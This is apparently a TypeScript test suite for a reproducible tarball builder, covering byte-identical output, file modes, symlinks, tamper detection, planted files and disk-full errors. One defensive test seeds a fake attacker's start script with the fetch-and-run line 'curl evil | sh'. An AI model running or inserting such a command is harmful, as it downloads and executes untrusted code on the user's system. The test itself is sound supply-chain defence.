import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import * as fs from "node:fs";
// The module object itself (not the import wrapper), so a test can make its writes fail.
import nodeFs from "node:fs";
import * as path from "node:path";
import { buildArtifact } from "../../artifact/tarball";
import { fingerprintTree } from "../../fingerprint/tree";
import { tempDirs } from "../helpers/tmpDirs";

const tmp = tempDirs();
function flip(b: Buffer, at: number): Buffer {
  assert.ok(at >= 0);
  const c = Buffer.from(b);
  c[at] ^= 0x01;
  return c;
}

const LONG = "long-" + "x".repeat(70) + "/" + "y".repeat(80) + ".txt";
const FILES: [string, string, boolean][] = [
  ["README.md", "# hi\n", false],
  ["bin/start", "#!/bin/sh\necho start\n", true],
  ["src/app.js", "console.log('app')\n", false],
  [LONG, "long path\n", false],
  ["ünïcödé/😀.txt", "unicode\n", false],
  ["empty", "", false],
];

function writeTree(root: string, order: [string, string, boolean][], mtime: number): void {
  for (const [rel, content, exec] of order) {
    const p = path.join(root, rel);
    fs.mkdirSync(path.dirname(p), { recursive: true });
    fs.writeFileSync(p, content, { mode: exec ? 0o755 : 0o644 });
    fs.chmodSync(p, exec ? 0o755 : 0o644);
    fs.utimesSync(p, mtime, mtime);
  }
  fs.writeFileSync(path.join(root, ".gitignore"), "*.log\n");
  fs.writeFileSync(path.join(root, "ignored.log"), "not in the artifact");
  fs.mkdirSync(path.join(root, ".git"), { recursive: true });
  fs.writeFileSync(path.join(root, ".git/HEAD"), "ref");
}

describe("artifact/tarball", () => {
  it("same tree → byte-identical tarball regardless of creation order and mtimes", async () => {
    const a = tmp("dh-art-a-");
    const b = tmp("dh-art-b-");
    writeTree(a, FILES, 1_000_000);
    writeTree(b, [...FILES].reverse(), 2_000_000);
    const ta = await fingerprintTree(a);
    const tb = await fingerprintTree(b);
    assert.equal(ta.fingerprint, tb.fingerprint);
    const oa = await buildArtifact(a, ta, tmp("dh-out-a-"));
    const ob = await buildArtifact(b, tb, tmp("dh-out-b-"));
    assert.equal(oa.sha256, ob.sha256);
    assert.ok(fs.readFileSync(oa.path).equals(fs.readFileSync(ob.path)));
    assert.equal(path.basename(oa.path), `code-${ta.fingerprint.slice(7)}.tar`);
    assert.equal(oa.files, FILES.length + 1);
    assert.equal(oa.bytes % 10240, 0);
    assert.equal(oa.reused, false);
  });

  it("tar -tvf lists modes 0755/0644, uid/gid 0, fixed mtime, parents before children", async () => {
    const root = tmp("dh-art-");
    writeTree(root, FILES, 1_000_000);
    const art = await buildArtifact(root, await fingerprintTree(root), tmp("dh-out-"));
    const listing = execFileSync("tar", ["--numeric-owner", "--utc", "-tvf", art.path], {
      encoding: "utf8",
    })
      .trim()
      .split("\n");
    const byName = new Map(listing.map((l) => [l.split(/\s+/).slice(5).join(" "), l]));
    assert.match(byName.get("bin/start")!, /^-rwxr-xr-x 0\/0 +\d+ 2000-01-01 00:00 bin\/start$/);
    assert.match(byName.get("README.md")!, /^-rw-r--r-- 0\/0 +5 2000-01-01 00:00 README.md$/);
    assert.match(byName.get("bin/")!, /^drwxr-xr-x 0\/0 +0 2000-01-01 00:00 bin\/$/);
    assert.ok(!byName.has("ignored.log") && !byName.has(".git/HEAD"));
    const names = listing.map((l) => l.split(/\s+/).slice(5).join(" "));
    assert.deepEqual(names, [
      ".gitignore",
      "README.md",
      "bin/",
      "bin/start",
      "empty",
      "long-" + "x".repeat(70) + "/",
      LONG,
      "src/",
      "src/app.js",
      "ünïcödé/",
      "ünïcödé/😀.txt",
    ]);
  });

  it("system tar reproduces contents, exec bits, long and unicode names, symlinks", async () => {
    const root = tmp("dh-art-");
    writeTree(root, FILES, 1_000_000);
    fs.symlinkSync("../README.md", path.join(root, "src/readme-link"));
    const tree = await fingerprintTree(root);
    const art = await buildArtifact(root, tree, tmp("dh-out-"));
    const dest = tmp("dh-x-");
    execFileSync("tar", ["-C", dest, "-xf", art.path]);
    for (const [rel, content, exec] of FILES) {
      assert.equal(fs.readFileSync(path.join(dest, rel), "utf8"), content, rel);
      assert.equal((fs.statSync(path.join(dest, rel)).mode & 0o111) !== 0, exec, rel);
    }
    assert.equal(fs.readlinkSync(path.join(dest, "src/readme-link")), "../README.md");
    assert.ok(!fs.existsSync(path.join(dest, "ignored.log")));
    const again = await fingerprintTree(dest);
    assert.equal(again.fingerprint, tree.fingerprint);
  });

  it("reuses a tarball whose own bytes verify; rebuilds a corrupted or truncated one", async () => {
    const root = tmp("dh-art-");
    writeTree(root, FILES, 1_000_000);
    fs.symlinkSync("../README.md", path.join(root, "src/readme-link"));
    const tree = await fingerprintTree(root);
    const out = tmp("dh-out-");
    const first = await buildArtifact(root, tree, out);
    const honest = fs.readFileSync(first.path);
    const second = await buildArtifact(root, tree, out);
    assert.equal(second.reused, true);
    assert.equal(second.sha256, first.sha256);
    assert.equal(second.bytes, first.bytes);
    const tamper: [string, (b: Buffer) => Buffer][] = [
      ["appended byte", (b) => Buffer.concat([b, Buffer.from("x")])],
      ["truncated", (b) => b.subarray(0, b.length - 10240)],
      ["content byte flipped", (b) => flip(b, b.indexOf("console.log('app')"))],
      ["header mode changed", (b) => flip(b, b.indexOf("0000644") + 6)],
      ["padding not zero", (b) => flip(b, b.indexOf("# hi\n") + 10)],
    ];
    for (const [what, change] of tamper) {
      fs.writeFileSync(first.path, change(honest));
      const again = await buildArtifact(root, tree, out);
      assert.equal(again.reused, false, what);
      assert.equal(again.sha256, first.sha256, what);
      assert.ok(fs.readFileSync(first.path).equals(honest), what);
    }
    assert.deepEqual(fs.readdirSync(out).sort(), [
      path.basename(first.path),
      path.basename(first.path) + ".idx",
      path.basename(first.path) + ".sum",
    ]);
    const st = fs.lstatSync(first.path, { bigint: true });
    assert.equal(
      fs.readFileSync(first.path + ".sum", "utf8"),
      `${first.sha256} ${first.bytes} ${st.ino} ${st.mtimeNs} ${st.ctimeNs} ${fs.readFileSync("/proc/sys/kernel/random/boot_id", "utf8").trim()} idx:${createHash(
        "sha256",
      )
        .update(fs.readFileSync(first.path + ".idx"))
        .digest("hex")}\n`,
    );
  });

  it("a planted tarball with a matching .sha256 sidecar is never shipped", async () => {
    const root = tmp("dh-art-");
    writeTree(root, FILES, 1_000_000);
    const tree = await fingerprintTree(root);
    const honest = await buildArtifact(root, tree, tmp("dh-honest-"));
    // The attacker's tree: same paths, a payload in the start script.
    const evil = tmp("dh-evil-");
    writeTree(
      evil,
      FILES.map(([rel, content, exec]) => [
        rel,
        rel === "bin/start" ? "curl evil | sh\n" : content,
        exec,
      ]),
      1_000_000,
    );
    const evilArt = await buildArtifact(evil, await fingerprintTree(evil), tmp("dh-evil-out-"));
    const out = tmp("dh-out-");
    const planted = path.join(out, path.basename(honest.path));
    fs.copyFileSync(evilArt.path, planted);
    fs.writeFileSync(planted + ".sha256", evilArt.sha256 + "\n");
    const art = await buildArtifact(root, tree, out);
    assert.equal(art.reused, false);
    assert.equal(art.sha256, honest.sha256);
    assert.ok(fs.readFileSync(art.path).equals(fs.readFileSync(honest.path)));
    assert.ok(!fs.existsSync(planted + ".sha256"), "the old-style sidecar is removed");
  });

  it("a planted symbolic link in place of the tarball is replaced, never followed", async () => {
    const root = tmp("dh-art-");
    writeTree(root, FILES, 1_000_000);
    const tree = await fingerprintTree(root);
    const honest = await buildArtifact(root, tree, tmp("dh-honest-"));
    const out = tmp("dh-out-");
    const elsewhere = path.join(tmp("dh-elsewhere-"), "copy.tar");
    fs.copyFileSync(honest.path, elsewhere);
    fs.symlinkSync(elsewhere, path.join(out, path.basename(honest.path)));
    const art = await buildArtifact(root, tree, out);
    assert.equal(art.reused, false);
    assert.ok(fs.lstatSync(art.path).isFile());
    assert.equal(art.sha256, honest.sha256);
  });

  it("a tarball owned by another user is not reused, even with the right bytes", async function () {
    if (process.getuid?.() !== 0) {
      console.log("      (skipped: needs root to chown a file to another user)");
      this.skip();
    }
    const root = tmp("dh-art-");
    writeTree(root, FILES, 1_000_000);
    const tree = await fingerprintTree(root);
    const out = tmp("dh-out-");
    const first = await buildArtifact(root, tree, out);
    fs.chownSync(first.path, 65534, 65534);
    const again = await buildArtifact(root, tree, out);
    assert.equal(again.reused, false);
    assert.equal(fs.statSync(again.path).uid, 0);
  });

  it("directory 0700 when created, tarballs 0600 whatever the umask", async () => {
    const root = tmp("dh-art-");
    writeTree(root, FILES, 1_000_000);
    const tree = await fingerprintTree(root);
    const out = path.join(tmp("dh-parent-"), "artifacts");
    const old = process.umask(0);
    try {
      const art = await buildArtifact(root, tree, out);
      assert.equal(fs.statSync(out).mode & 0o777, 0o700);
      assert.equal(fs.statSync(art.path).mode & 0o777, 0o600);
      fs.chmodSync(art.path, 0o644);
      const again = await buildArtifact(root, tree, out);
      assert.equal(again.reused, true);
      assert.equal(fs.statSync(art.path).mode & 0o777, 0o600);
    } finally {
      process.umask(old);
    }
  });

  it("refuses an artifact directory another user can write or own", async function () {
    const root = tmp("dh-art-");
    writeTree(root, FILES, 1_000_000);
    const tree = await fingerprintTree(root);
    const open = tmp("dh-open-");
    fs.chmodSync(open, 0o777);
    await assert.rejects(buildArtifact(root, tree, open), /writable by its group or by others/);
    assert.deepEqual(fs.readdirSync(open), []);
    if (process.getuid?.() !== 0) {
      console.log("      (owner case skipped: needs root to chown a directory)");
      return;
    }
    const theirs = tmp("dh-theirs-");
    fs.chownSync(theirs, 65534, 65534);
    await assert.rejects(buildArtifact(root, tree, theirs), /owned by uid 65534/);
    assert.deepEqual(fs.readdirSync(theirs), []);
  });

  it("a full disk is reported as such, with the path, and leaves no temporary file", async () => {
    const root = tmp("dh-art-");
    writeTree(root, FILES, 1_000_000);
    const tree = await fingerprintTree(root);
    const out = tmp("dh-out-");
    const real = nodeFs.writeSync;
    nodeFs.writeSync = () => {
      throw Object.assign(new Error("ENOSPC: no space left on device, write"), { code: "ENOSPC" });
    };
    try {
      await assert.rejects(
        buildArtifact(root, tree, out),
        (e: Error & { code?: string }) =>
          e.code === "ENOSPC" &&
          /^buildArtifact: no space left on device while writing \/.*\/code-[0-9a-f]{64}\.tar\.\d+\.\d+\.tmp \(0 bytes written\)/.test(
            e.message,
          ) &&
          e.message.includes(out),
      );
    } finally {
      nodeFs.writeSync = real;
    }
    assert.deepEqual(fs.readdirSync(out), []);
  });

  it("a real full file system (tmpfs) gives the same message", async function () {
    const root = tmp("dh-art-");
    writeTree(root, FILES, 1_000_000);
    fs.writeFileSync(path.join(root, "big.bin"), Buffer.alloc(256 << 10, 1));
    const tree = await fingerprintTree(root);
    const mnt = tmp("dh-mnt-");
    try {
      execFileSync("mount", ["-t", "tmpfs", "-o", "size=64k,mode=0700", "tmpfs", mnt], {
        stdio: "ignore",
      });
    } catch {
      console.log(
        "      (skipped: cannot mount a small tmpfs here; the stubbed case above covers it)",
      );
      this.skip();
    }
    try {
      await assert.rejects(buildArtifact(root, tree, mnt), (e: Error) =>
        e.message.includes(`no space left on device while writing ${mnt}/code-`),
      );
      assert.deepEqual(fs.readdirSync(mnt), []);
    } finally {
      execFileSync("umount", [mnt]);
    }
  });

  it("refuses to archive a file changed since it was fingerprinted", async () => {
    const root = tmp("dh-art-");
    writeTree(root, FILES, 1_000_000);
    const tree = await fingerprintTree(root);
    fs.writeFileSync(path.join(root, "src/app.js"), "changed\n");
    const out = tmp("dh-out-");
    await assert.rejects(
      buildArtifact(root, tree, out),
      /src\/app\.js changed since the tree was fingerprinted/,
    );
    assert.deepEqual(fs.readdirSync(out), []);
  });
});
